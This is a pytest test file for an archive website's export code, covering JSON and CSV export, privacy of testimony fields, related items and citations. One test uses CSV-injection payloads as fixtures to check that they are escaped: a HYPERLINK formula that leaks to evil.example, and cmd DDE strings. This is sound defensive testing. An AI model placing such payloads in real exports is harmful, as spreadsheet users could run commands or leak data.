"""Data export, related items and the "Cite this" block on item pages."""

import csv
import io
import json

from generator.output.export import COLUMNS
from tests.conftest import build_site

ARTICLE = """\
---
title: {title}
date: {date}
source: The Paper
source_url: https://paper.example/{slug}
authors: [A. Writer]
tags: [{tags}]
summary: About {title}.
---
Body of {title}.
"""

TESTIMONY = """\
---
date: 2018-03-14
pseudonym: A nurse
region: Ireland
tags: [workplace]
content_warnings: [harassment]
editor_note: Checked by two editors.
consent:
  status: granted
  recorded: 2018-03-20
private:
  intake_ref: "INT-SECRET-42"
---
What happened to me.
"""

TAGS = """\
workplace: {label: Workplace}
law: {label: Law}
media: {label: Media}
"""


def make_archive(site_tree):
    return site_tree({
        "content/tags.yaml": TAGS,
        "content/articles/a.md": ARTICLE.format(title="A", slug="a", date="2017-10-05", tags="workplace, law"),
        "content/articles/b.md": ARTICLE.format(title="B", slug="b", date="2017-11-05", tags="workplace, law"),
        "content/articles/c.md": ARTICLE.format(title="C", slug="c", date="2017-12-05", tags="workplace"),
        "content/articles/d.md": ARTICLE.format(title="D", slug="d", date="2018-01-05", tags="media"),
        "content/articles/e.md": ARTICLE.format(title="E", slug="e", date="2018-02-05", tags="law").replace(
            "tags:", "draft: true\ntags:"),
        "content/testimonies/t001.md": TESTIMONY,
    })


def test_json_export_holds_exactly_the_allowlisted_public_fields(site_tree, tmp_path):
    report = build_site(make_archive(site_tree))
    assert not report.errors
    data = json.loads((tmp_path / "_site/data/items.json").read_text(encoding="utf-8"))
    assert data["columns"] == list(COLUMNS)
    assert [item["slug"] for item in data["items"]] == ["t001", "d", "c", "b", "a"]  # newest first; draft absent
    testimony = data["items"][0]
    assert testimony == {
        "kind": "testimony", "slug": "t001", "url": "https://example.org/testimonies/t001/",
        "title": "A nurse, March 2018", "date": "2018-03", "source": None, "source_url": None,
        "authors": [], "tags": ["workplace"], "content_warnings": ["harassment"], "language": "en",
        "region": "Ireland", "pseudonym": "A nurse", "summary": None,
    }
    assert data["items"][-1]["authors"] == ["A. Writer"] and data["items"][-1]["date"] == "2017-10-05"
    assert data["content_warnings"] == {"harassment": "Harassment"}


def test_csv_export_matches_json_and_leaks_nothing_private(site_tree, tmp_path):
    build_site(make_archive(site_tree))
    raw = (tmp_path / "_site/data/items.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert tuple(rows[0]) == COLUMNS
    assert rows[0]["date"] == "2018-03" and rows[0]["source"] == ""
    assert rows[-1]["tags"] == "workplace; law"
    for secret in ("14", "INT-SECRET-42", "Checked by two editors", "What happened to me", "2018-03-20"):
        assert secret not in raw.replace("2018-03,", "")
    assert "B" in {row["title"] for row in rows} and "E" not in {row["title"] for row in rows}


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_json_keeps_the_text(site_tree, tmp_path):
    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading '."""
    hostile = {  # as JSON, which YAML reads as it is
        "title": json.dumps('=HYPERLINK("https://evil.example/?leak=","Source")'),
        "source": json.dumps("+cmd|' /C calc'!A0"),
        "summary": json.dumps("@SUM(1+1)*cmd|' /C calc'!A0"),
        "authors": json.dumps(["-2+3+cmd|' /C calc'!A0", "=1+1"]),
    }
    article = "---\n" + "".join(f"{key}: {value}\n" for key, value in hostile.items()) + \
        "date: 2017-10-05\ntags: [law]\n---\nBody.\n"
    pages = "---\ntitle: Plain -12\ndate: 2017-10-06\nsource: \"-12\"\nsummary: \"-3.5\"\n---\nBody.\n"
    report = build_site(site_tree({"content/tags.yaml": TAGS, "content/articles/evil.md": article,
                                   "content/articles/plain.md": pages}))
    assert not report.errors, [d.format() for d in report.errors]
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(
        (tmp_path / "_site/data/items.csv").read_text(encoding="utf-8")))}
    evil = rows["evil"]
    assert evil["title"] == "'=HYPERLINK(\"https://evil.example/?leak=\",\"Source\")"
    assert evil["source"] == "'+cmd|' /C calc'!A0"
    assert evil["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert evil["authors"] == "'-2+3+cmd|' /C calc'!A0; =1+1"
    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "@", "\t", "\r")
                or (cell[:1] == "-" and not cell.lstrip("-").replace(".", "").isdigit())]
    assert (rows["plain"]["source"], rows["plain"]["summary"]) == ("-12", "-3.5")  # plain numbers stay numbers
    items = {item["slug"]: item for item in json.loads((tmp_path / "_site/data/items.json").read_text())["items"]}
    assert items["evil"]["title"] == '=HYPERLINK("https://evil.example/?leak=","Source")'
    assert items["evil"]["authors"] == ["-2+3+cmd|' /C calc'!A0", "=1+1"]


def test_export_is_deterministic(site_tree, tmp_path):
    root = make_archive(site_tree)
    build_site(root, tmp_path / "one")
    build_site(root, tmp_path / "two")
    for name in ("items.json", "items.csv"):
        assert (tmp_path / "one/data" / name).read_bytes() == (tmp_path / "two/data" / name).read_bytes()


def test_related_items_share_tags_most_shared_first(site_tree):
    report = build_site(make_archive(site_tree), write=False)
    related = {url: [item.slug for item in items] for url, items in report.site.related.items()}
    assert related["/articles/a/"] == ["b", "c", "t001"]   # b shares two tags; then nearest in time
    assert related["/articles/d/"] == []                  # no other item is tagged media
    assert "e" not in sum(related.values(), [])            # drafts are never related


def test_item_page_shows_related_and_citation(site_tree, tmp_path):
    build_site(make_archive(site_tree))
    article = (tmp_path / "_site/articles/a/index.html").read_text(encoding="utf-8")
    assert '<h2 id="related-heading">Related</h2>' in article
    assert ('<p class="citation">A. Writer. “A”. The Paper, 5 October 2017. Summarised in <cite>Test Archive</cite>, '
            '<a href="https://example.org/articles/a/">https://example.org/articles/a/</a></p>') in article
    testimony = (tmp_path / "_site/testimonies/t001/index.html").read_text(encoding="utf-8")
    assert ('<p class="citation">A nurse. Testimony, Ireland, March 2018. <cite>Test Archive</cite>, '
            '<a href="https://example.org/testimonies/t001/">https://example.org/testimonies/t001/</a></p>') in testimony
    assert "related-heading" not in (tmp_path / "_site/articles/d/index.html").read_text(encoding="utf-8")
